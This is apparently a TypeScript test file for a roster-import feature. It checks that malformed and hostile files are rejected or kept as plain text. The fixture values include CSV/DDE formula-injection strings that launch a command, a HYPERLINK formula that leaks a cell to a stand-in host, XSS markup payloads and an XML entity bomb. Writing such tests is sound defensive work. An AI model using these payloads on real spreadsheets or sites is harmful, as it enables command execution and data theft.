// Hostile and broken roster files beyond the everyday ones of corpus.test.ts: encodings no roster
// tool writes, archives and exports renamed, formula and markup payloads, invisible and astral
// characters, template syntax, and an XML entity bomb. Each gives a clear message or imports
// safely, keeping text exactly as text.

import i18next from 'i18next';
import { describe, expect, test } from 'vitest';
import { resources } from '../i18n/resources.js';
import { describeRowProblem } from './messages.js';
import { ROSTER_CORPUS, fixture, preview, previewFixture, problem, problemsOf, utf8 } from '../../tests/fixtures/roster/support.js';
import { unnamedFiles } from '../../tests/fixtures/corpus.js';

const rows = (result: Awaited<ReturnType<typeof previewFixture>>) => result.rows.map((r) => [r.row, r.fields.code, r.fields.fullName, r.fields.organisation]);

describe('refused with a clear message', () => {
  test.each([
    ['invalid-utf8-after-4k.csv', 'notUtf8'],
    ['encoded-surrogates.csv', 'notUtf8'],
    ['utf32le-bom.csv', 'binary'],
    ['gzip-renamed.csv', 'binary'],
  ] as const)('%s: %s, and nothing is imported', async (name, code) => {
    const result = await previewFixture(name);
    expect(result.fileProblem?.code).toBe(code);
    expect(result.rows).toEqual([]);
  });

  test('a JSON export renamed .csv names the roster columns it lacks', async () => {
    const result = await previewFixture('json-renamed.csv');
    expect(result.fileProblem).toEqual({ code: 'missingColumns', params: { fields: 'code,fullName,organisation', count: 3 } });
  });
});

describe('imported safely, as text', () => {
  test('old Mac line ends (carriage returns only)', async () => {
    expect(rows(await previewFixture('cr-only-line-ends.csv'))).toEqual([
      [2, 'DB001', 'Nguyễn Văn An', 'Văn phòng'],
      [3, 'DB002', 'Trần Thị Bình', 'Sở Tư pháp'],
    ]);
  });

  test('formula and DDE payloads are kept as typed, never evaluated', async () => {
    const result = await previewFixture('dde-formulas.csv');
    expect(result.rows.map((r) => [r.fields.fullName, r.fields.organisation, r.fields.position, r.fields.ethnicity])).toEqual([
      ["=cmd|' /C calc'!A0", '+SUM(1;2)', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"],
      ['=1+1 Nguyễn Văn An', '=HYPERLINK("http://example.invalid?leak="&A1,"Bấm")', '=1+1', 'Kinh'],
    ]);
  });

  test('a workbook keeps a formula cell as the value Excel last showed, not the formula', async () => {
    const result = await previewFixture('formula-cells.xlsx');
    expect(result.fileProblem).toBeNull();
    expect(rows(result)).toEqual([
      [2, 'DB001', 'Nguyễn Văn An', 'Văn phòng'],
      [3, 'DB002', 'Trần Thị Bình', 'Sở Tư pháp'],
    ]);
  });

  test('nested XML entities (a "billion laughs") are not expanded: the cell keeps its literal text', async () => {
    const result = await previewFixture('xml-entity-bomb.xlsx');
    expect(result.rows[0]?.fields.fullName).toBe('&lol9;');
    expect(result.rows.map((r) => r.fields.code)).toEqual(['1001', '1002', 'DB004']);
  });

  test('markup that slips past naive filters stays plain text in every field', async () => {
    const result = await previewFixture('markup-attributes.csv');
    expect(result.rows.map((r) => [r.fields.fullName, r.fields.organisation, r.fields.position])).toEqual([
      ['&lt;script&gt;alert(1)&lt;/script&gt;', 'Văn phòng', '<a href="javascript:alert(1)">Giám đốc</a>'],
      ['<style>*{display:none}</style>Trần Thị Bình', '<iframe src=//example.invalid>', '<svg/onload=alert(1)>'],
    ]);
  });

  test('emoji and characters beyond the Basic Multilingual Plane are kept; invisible joiners go', async () => {
    expect((await previewFixture('emoji-and-astral.csv')).rows.map((r) => r.fields.fullName)).toEqual(['Nguyễn Văn An 👍', 'Trần Thị 👩👩👧 Bình', 'Lê Văn 𠀧']);
  });
});

describe('row problems', () => {
  test('a letter under 300 combining accents is too long, counted as it is stored', async () => {
    const result = await previewFixture('combining-mark-flood.csv');
    expect(problemsOf(result, 'error')).toEqual([problem(2, 'fullName', 'tooLong')]);
    expect(result.problems.find((p) => p.code === 'tooLong')?.params).toMatchObject({ length: 312, max: 200 });
    expect(rows(result)).toEqual([[3, 'DB002', 'Trần Thị Bình', 'Sở Tư pháp']]);
  });

  test('a cell of invisible characters only counts as empty', async () => {
    const result = await previewFixture('invisible-only-values.csv');
    expect(problemsOf(result, 'error')).toEqual([problem(2, 'fullName', 'nameMissing'), problem(3, 'code', 'codeMissing')]);
    expect(rows(result)).toEqual([[4, 'DB003', 'Lê Văn Cường', 'Công an tỉnh']]);
  });

  test('template syntax in cells is kept, and a message quoting it quotes it literally', async () => {
    const result = await previewFixture('template-syntax.csv');
    expect(result.rows.map((r) => r.fields.fullName)).toEqual(['{{row}} $t(errors.internal)']);
    const unknown = result.problems.find((p) => p.code === 'categoryUnknown');
    if (!unknown) throw new Error('no categoryUnknown problem');
    for (const language of ['en', 'vi'] as const) {
      const i18n = i18next.createInstance();
      await i18n.init({ lng: language, resources, interpolation: { escapeValue: false } });
      const text = describeRowProblem(unknown, (key, params) => i18n.t(key, params));
      expect(text).toContain('$t(import.file.binary) {{value}}');
      expect(text).not.toContain('Excel');
    }
  });
});

describe('files too big or too wide to commit', () => {
  test('a single cell of 9 MB is an error on its row, read without trouble', async () => {
    const result = await preview(utf8(`Mã đại biểu,Họ và tên,Đơn vị\nDB001,${'Nguyen '.repeat((9 * 1024 * 1024) / 7)},Văn phòng\nDB002,Trần Thị Bình,Sở Tư pháp\n`), 'big-cell.csv');
    expect(problemsOf(result, 'error')).toEqual([problem(2, 'fullName', 'tooLong')]);
    expect(result.rows.map((r) => r.fields.code)).toEqual(['DB002']);
  });

  test('a row of 200,000 cells under a header of three', async () => {
    const result = await preview(utf8(`Mã đại biểu,Họ và tên,Đơn vị\nDB001,Nguyễn Văn An,Văn phòng${',x'.repeat(200_000)}\nDB002,Trần Thị Bình,Sở Tư pháp\n`), 'wide-row.csv');
    expect(problemsOf(result, 'error')).toEqual([problem(2, null, 'tooManyCells')]);
    expect(result.rows.map((r) => r.fields.code)).toEqual(['DB002']);
  });
});

describe('the corpus', () => {
  test('has at least 30 files, and a test names every one of them', async () => {
    const files = ROSTER_CORPUS.files();
    expect(files.length).toBeGreaterThanOrEqual(30);
    expect(await unnamedFiles(files, new URL('./', import.meta.url))).toEqual([]);
    // Every file is one the previews above can read without throwing.
    for (const name of files) await preview(fixture(name), name);
  });
});
